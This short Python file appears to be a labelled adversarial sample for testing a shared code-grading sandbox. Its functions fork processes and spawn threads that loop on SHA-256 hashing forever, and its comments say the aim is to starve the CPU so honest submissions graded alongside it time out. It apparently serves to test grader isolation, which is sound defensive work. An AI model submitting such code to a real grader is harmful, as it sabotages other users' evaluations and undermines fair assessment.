# attack: Uses the processors with as many busy threads and processes as it gets, and never answers.
# hurts: Honest submissions graded beside it run into their time limits.
# ends: timeout
import contextlib
import hashlib
import os
import signal
import threading

MOST = 8


def attack(target):
    for _ in range(MOST):
        with contextlib.suppress(OSError):
            if os.fork() == 0:
                signal.alarm(20)
                burn()
        with contextlib.suppress(RuntimeError):
            threading.Thread(target=burn, daemon=True).start()
    burn()


def burn():
    data = bytes(1 << 20)
    while True:
        hashlib.sha256(data)
